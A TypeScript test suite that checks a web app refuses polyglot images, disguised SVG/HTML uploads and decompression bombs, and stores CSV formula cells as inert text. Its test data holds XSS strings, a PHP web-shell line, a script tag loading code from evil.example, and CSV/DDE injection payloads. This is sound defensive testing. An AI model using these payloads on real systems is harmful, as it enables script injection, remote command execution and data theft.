import { crc32 } from 'node:zlib';
import { ImportFile } from '../../src/modules/import/import-file.entity';
import { START_IMPORT, UPLOAD_USER_AVATAR } from '../helpers/documents';
import { waitForImport } from '../helpers/imports';
import { base64Of, gifBytes, jpegBytes, multipartGraphql, pngBytes, storedFileCount, userAvatarKey } from '../helpers/uploads';
import { expectRestError } from './security-helpers';
import { useTestWorld } from '../helpers/setup';

const MIB = 1024 * 1024;

/** A valid PNG carrying `text` in a tEXt chunk, as image editors store comments. */
function pngWithText(text: string): Buffer {
  const png = pngBytes();
  const data = Buffer.concat([Buffer.from('Comment\0', 'latin1'), Buffer.from(text, 'latin1')]);
  const body = Buffer.concat([Buffer.from('tEXt', 'latin1'), data]);
  const chunk = Buffer.alloc(12 + data.length);
  chunk.writeUInt32BE(data.length, 0);
  body.copy(chunk, 4);
  chunk.writeUInt32BE(crc32(body), 8 + data.length);
  return Buffer.concat([png.subarray(0, png.length - 12), chunk, png.subarray(png.length - 12)]);
}

/** A valid JPEG carrying `text` in a comment (COM) segment right after its start marker. */
function jpegWithComment(text: string): Buffer {
  const jpeg = jpegBytes();
  const comment = Buffer.from(text, 'latin1');
  const segment = Buffer.concat([Buffer.from([0xff, 0xfe, (comment.length + 2) >> 8, (comment.length + 2) & 0xff]), comment]);
  return Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2)]);
}

const MARKUP = [
  '<script>alert(document.cookie)</script>',
  '<HTML><body onload="alert(1)">',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">',
  "<?php system($_GET['c']); ?>",
  '<!DOCTYPE html><title>x</title>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
];

const { app, world } = useTestWorld({});

const storedFiles = (folder: string) => storedFileCount(app, folder, { withContentTypes: true });
const labId = () => String(world.users.labMember.id);
const graphqlUpload = (bytes: Buffer, type = 'image/png') =>
  app.graphql(UPLOAD_USER_AVATAR, { userId: labId(), base64: base64Of(bytes, 'avatar.png', type) }, world.token('labMember'));
const restUpload = (bytes: Buffer, type = 'image/png') =>
  app.request('PUT', '/api/v1/users/avatar', {
    body: { user_id: world.users.labMember.id, avatar_base64: bytes.toString('base64'), name: 'avatar.png', type },
    headers: world.headers('labMember'),
  });

async function expectImageRefused(bytes: Buffer, type = 'image/png'): Promise<void> {
  const before = storedFiles('avatars');
  const graphql = await graphqlUpload(bytes, type);
  expect(graphql.body.errors[0].extensions.code).toBe('UNSUPPORTED_MEDIA_TYPE');
  expectRestError(await restUpload(bytes, type), 415, 'UNSUPPORTED_MEDIA_TYPE');
  expect(await userAvatarKey(app, world.users.labMember.id)).toBeNull();
  expect(storedFiles('avatars')).toBe(before);
}

describe('images are what their bytes say, and nothing else', () => {
  it.each(MARKUP)('refuses a PNG polyglot carrying %s (GraphQL and REST: 415)', async (markup) => {
    await expectImageRefused(pngWithText(markup));
  });

  it.each(MARKUP.slice(0, 4))('refuses a JPEG polyglot carrying %s, also as a multipart upload', async (markup) => {
    await expectImageRefused(jpegWithComment(markup), 'image/jpeg');
    const multipart = await multipartGraphql(app, UPLOAD_USER_AVATAR, { userId: labId(), file: null }, jpegWithComment(markup), {
      token: world.token('labMember'),
      fileType: 'image/jpeg',
    });
    expect(multipart.body.errors[0].extensions.code).toBe('UNSUPPORTED_MEDIA_TYPE');
  });

  it.each([
    ['an SVG image', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
    ['an HTML page', Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>')],
    ['markup behind a GIF header', Buffer.concat([gifBytes(), Buffer.from('<script>alert(1)</script>')])],
  ])('refuses %s sent as image/png', async (_label, bytes) => {
    await expectImageRefused(bytes);
  });

  it.each([
    ['a PNG declaring 20000×20000 pixels', pngBytes(20_000, 20_000)],
    ['a GIF declaring 65535×65535 pixels', gifBytes(65_535, 65_535)],
    ['a JPEG declaring 60000×1 pixels', jpegBytes(60_000, 1)],
  ])('refuses a decompression bomb: %s', async (_label, bytes) => {
    await expectImageRefused(bytes);
  });

  it('still accepts an image whose comment merely contains a "<"', async () => {
    const result = await restUpload(pngWithText('made with <3 in GIMP, 2 < 3'));
    expect(result.status).toBe(200);
    expect(result.body.user.avatar_route).toMatch(/\.png$/);
  });
});

describe('CSV imports', () => {
  it('stores cells starting with =, +, -, @, tab or CR as their text, never evaluated (through REST)', async () => {
    const csv = [
      'email,first_name,last_name,access',
      'csv.formula@example.com,"=HYPERLINK(""http://evil.example/?"",""click"")","+cmd|\' /C calc\'!A0",member',
      'csv.minus@example.com,-2+3,@SUM(A1:A9),member',
      'csv.control@example.com,"\tTabbed","\rReturn",member',
    ].join('\n');
    const started = await app.request('POST', '/api/v1/imports', {
      body: {
        company_id: world.companies.acme,
        name: 'people.csv',
        type: 'text/csv',
        file_base64: Buffer.from(csv).toString('base64'),
      },
      headers: world.headers('acmeAdmin'),
    });
    expect(started.status).toBe(202);
    const id = started.body.import_file.id;
    await waitForImport(app, id);
    const importFile = (await app.request('GET', `/api/v1/imports/${id}`, { headers: world.headers('acmeAdmin') })).body
      .import_file;
    expect(importFile).toMatchObject({ status: 'completed', created_count: 3, failed_count: 0 });
    const expected: [string, string, string][] = [
      ['csv.formula@example.com', '=HYPERLINK("http://evil.example/?","click")', "+cmd|' /C calc'!A0"],
      ['csv.minus@example.com', '-2+3', '@SUM(A1:A9)'],
      ['csv.control@example.com', '\tTabbed', '\rReturn'],
    ];
    for (const [email, firstName, lastName] of expected) {
      const found = await app.request('GET', `/api/v1/users/find_by_email?email=${email}`, {
        headers: world.headers('acmeAdmin'),
      });
      expect(found.headers.get('content-type')).toMatch(/^application\/json/);
      expect(found.body.user).toMatchObject({ first_name: firstName, last_name: lastName });
    }
  });

  it('refuses a CSV over 5 MiB with 413 on REST and PAYLOAD_TOO_LARGE on GraphQL, storing nothing', async () => {
    const line = 'someone@example.com,Some,One,member\n';
    const big = Buffer.from(`email,first_name,last_name,access\n${line.repeat(Math.ceil((5 * MIB) / line.length) + 1)}`);
    const before = [await app.orm.em.fork().count(ImportFile, {}), storedFiles('imports')];
    const rest = await app.request('POST', '/api/v1/imports', {
      body: { company_id: world.companies.acme, name: 'big.csv', type: 'text/csv', file_base64: big.toString('base64') },
      headers: world.headers('acmeAdmin'),
    });
    expectRestError(rest, 413, 'PAYLOAD_TOO_LARGE');
    const graphql = await app.graphql(
      START_IMPORT,
      { c: String(world.companies.acme), b: base64Of(big, 'big.csv', 'text/csv') },
      world.token('acmeAdmin'),
    );
    expect(graphql.body.errors[0].extensions.code).toBe('PAYLOAD_TOO_LARGE');
    expect([await app.orm.em.fork().count(ImportFile, {}), storedFiles('imports')]).toEqual(before);
  });
});
